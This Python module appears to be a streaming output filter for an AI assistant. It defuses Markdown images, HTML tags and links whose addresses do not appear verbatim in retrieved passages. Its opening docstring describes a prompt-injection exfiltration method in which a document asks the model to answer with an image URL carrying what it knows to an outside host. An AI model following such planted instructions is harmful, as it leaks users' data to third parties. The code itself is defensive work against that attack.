"""Makes a streamed answer inert: no renderer of Markdown or HTML fetches, runs or links anything that it should not.

A document can ask the model to answer with `![](https://host/?q=<what you know>)`; whoever shows that answer then sends
the words to that host. So, behind the gate, in code as elsewhere: images never work; HTML never begins; a link works
only if its address stands word for word in a passage that the model was shown, and so carries nothing from the
question or from another passage. Text stays readable: a tag begins with "‹", an image with "! [", a link's
brackets are "] (", and another address is written `https[:]//host[.]example/path`.

The law of the stream holds: what is decided at a character depends on BEFORE characters to the left of it, and on a
bounded number to the right.
"""

import re
from collections.abc import Iterable

BEFORE = 32  # raw characters to the left that a decision may read
MAX_NAME = 24
MAX_ADDRESS = 2000  # a longer address is held by no passage
MAX_CLOSING = 8  # signs between the end of an address and the blank after it

# Where something can begin. Each is looked at with what follows; a part of one at the end of the text so far waits.
_NEXT = re.compile(r"[<\uff1c\ufe64!\]:]|(?<![A-Za-z0-9])[wW]{3}\.")
_PARTIAL = re.compile(r"(?<![A-Za-z0-9])[wW]{1,3}\Z")
_TAG = re.compile(r"[<\uff1c\ufe64](?:([A-Za-z][A-Za-z0-9-]{0,23})|[/!?])")
# Elements that act without any attribute: these never pass for a type, as in `List<String>`.
_ACTIVE = {
    "a", "applet", "audio", "base", "body", "button", "embed", "form", "frame", "frameset", "head", "html",
    "iframe", "image", "img", "input", "link", "listing", "marquee", "math", "meta", "noembed", "noframes",
    "noscript", "object", "plaintext", "portal", "script", "select", "source", "style", "svg", "template",
    "textarea", "title", "video", "xmp",
}  # fmt: skip
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]{0,23}\Z")
_HOST = re.compile(r"[^\s/?#<>\"'`()\[\]{}|\\^]{1,253}")
_CLOSING = re.compile(r"[.,;:!?)\]}'\"*_~|»”’]{0,8}(?=[\s<>]|\Z)")
_GREEDY = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.\-]{0,23}://|[wW]{3}\.)[^\s<>\"`]+")
_PLAIN = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.\-]{0,23}://|[wW]{3}\.)[^\s<>\"'`()\[\]{}|\\^]+")
_TRAILING = ".,;:!?)]}'\"*_~|»”’"


class Addresses:
    """The addresses that a link may lead to."""

    def __init__(self, addresses: Iterable[str] = ()) -> None:
        self._known = frozenset(a for a in addresses if len(a) <= MAX_ADDRESS)

    @classmethod
    def of(cls, texts: Iterable[str]) -> "Addresses":
        """The web addresses that stand in these texts."""
        found: set[str] = set()
        for text in texts:
            for pattern in (_GREEDY, _PLAIN):
                found.update(match[0].rstrip(_TRAILING) for match in pattern.finditer(text))
        return cls(a for a in found if a.lower().startswith(("https://", "http://", "www.")))

    def may_become(self, text: str) -> bool:
        """Whether one of them begins with this and goes on."""
        return len(text) < MAX_ADDRESS and any(len(a) > len(text) and a.startswith(text) for a in self._known)

    def end(self, text: str, start: int) -> int:
        """Where the longest one that begins at `start` ends; `start` if none does."""
        return start + max((len(a) for a in self._known if text.startswith(a, start)), default=0)


NO_ADDRESSES = Addresses()


class ActiveContentFilter:
    """One answer: `feed` each piece, `flush` at its end. What is released does not depend on the cutting."""

    def __init__(self, allowed: Addresses = NO_ADDRESSES) -> None:
        self._allowed = allowed
        self._text = ""
        self._before = ""

    @property
    def held(self) -> int:
        """Characters that came in and are not decided yet."""
        return len(self._text)

    def feed(self, piece: str) -> str:
        """Take the next piece; returns what can be released now."""
        self._text += piece
        return self._advance(final=False)

    def flush(self) -> str:
        """The text is complete: returns what was held back."""
        return self._advance(final=True)

    def _advance(self, *, final: bool) -> str:
        text = self._before + self._text
        at = len(self._before)
        released: list[str] = []
        while at < len(text):
            step = self._step(text, at, final=final)
            if step is None:
                break
            at, shown = step
            released.append(shown)
        self._before, self._text = text[max(at - BEFORE, 0) : at], text[at:]
        return "".join(released)

    def _step(self, text: str, at: int, *, final: bool) -> tuple[int, str] | None:
        """The next stretch: where it ends and what is shown for it; None while that depends on what follows."""
        following = _NEXT.search(text, at)
        if following is None or following.start() > at:
            end = following.start() if following else len(text)
            partial = _PARTIAL.search(text, at, end) if following is None and not final else None
            end = partial.start() if partial else end
            return (end, text[at:end]) if end > at else None
        match text[at]:
            case "!":
                return _pair(text, at, "[", final=final)
            case "]":
                return self._bracket(text, at, final=final)
            case ":" | "w" | "W":
                return self._address(text, at, final=final)
        return _tag(text, at, final=final)

    def _bracket(self, text: str, at: int, *, final: bool) -> tuple[int, str] | None:
        """A link's middle, `](`, stays only before an allowed address and its end; a definition's, `]:`, never."""
        if text[at + 1 : at + 2] != "(":
            return _pair(text, at, ":", final=final)
        start = at + 2
        end = self._allowed.end(text, start)
        if not final and (self._allowed.may_become(text[start:]) or (start < end == len(text))):
            return None
        return at + 2, "](" if start < end and text[end : end + 1] == ")" else "] ("

    def _address(self, text: str, at: int, *, final: bool) -> tuple[int, str] | None:
        """A colon before two slashes, or `www.`: an address that is not allowed is written so that nothing links it."""
        if text[at] == ":":
            slashes = text[at + 1 : at + 3]
            if slashes != "//":
                return None if not final and "//".startswith(slashes) else (at + 1, ":")
            scheme = _SCHEME.search(text, max(at - MAX_NAME, 0), at)
            start, behind = (scheme.start() if scheme else at), at + 3
        else:
            start, behind = at, at + 4
        if behind == len(text) and not final:
            return None
        known = self._known(text, start, behind, final=final)
        if known is None or known:
            return None if known is None else (known, text[at:known])
        return _unlinked(text, at, behind, final=final)

    def _known(self, text: str, start: int, behind: int, *, final: bool) -> int | None:
        """Where an allowed address ends that begins at `start`; 0 if none does; None while that is not known."""
        if not final and self._allowed.may_become(text[start:]):
            return None
        end = self._allowed.end(text, start)
        if end < behind:
            return 0
        if text[max(start - 2, 0) : start] == "](" and text[end : end + 1] == ")":
            return end
        closing = _CLOSING.match(text, end)
        if not final and len(text) - end <= MAX_CLOSING and not text[end:].strip(_TRAILING):
            return None  # what stands behind these signs says whether the address goes on
        return end if closing is not None else 0


def _pair(text: str, at: int, second: str, *, final: bool) -> tuple[int, str] | None:
    """Two characters that mean something together are set apart."""
    following = text[at + 1 : at + 2]
    if not following and not final:
        return None
    return (at + 2, f"{text[at]} {second}") if following == second else (at + 1, text[at])


def _tag(text: str, at: int, *, final: bool) -> tuple[int, str] | None:
    """The beginning of a tag, a comment or an address in angle brackets becomes one that is none."""
    if at + 1 == len(text) and not final:
        return None
    tag = _TAG.match(text, at)
    if tag is None:
        return at + 1, text[at]
    name = tag[1]
    if name is None or text[at] != "<" or not text[max(at - 1, 0) : at].isalnum():
        return at + 1, "‹"
    if tag.end() == len(text) and not final and len(name) < MAX_NAME:
        return None
    follows = text[tag.end() : tag.end() + 1]
    is_type = follows == ">" and name.lower() not in _ACTIVE
    return at + 1, "<" if is_type else "‹"


def _unlinked(text: str, at: int, behind: int, *, final: bool) -> tuple[int, str] | None:
    """The colon in brackets, and every dot of the host."""
    host = _HOST.match(text, behind)
    end = host.end() if host else behind
    if end == len(text) and not final and end - behind < 253:
        return None
    if end == behind:  # nothing that could be a host
        return end, text[at:end]
    opening = text[at:behind].replace(":", "[:]").replace(".", "[.]")
    return end, opening + text[behind:end].replace(".", "[.]")


def make_inert(text: str, allowed: Addresses = NO_ADDRESSES) -> str:
    """A whole text, as the filter releases it."""
    content = ActiveContentFilter(allowed)
    return content.feed(text) + content.flush()
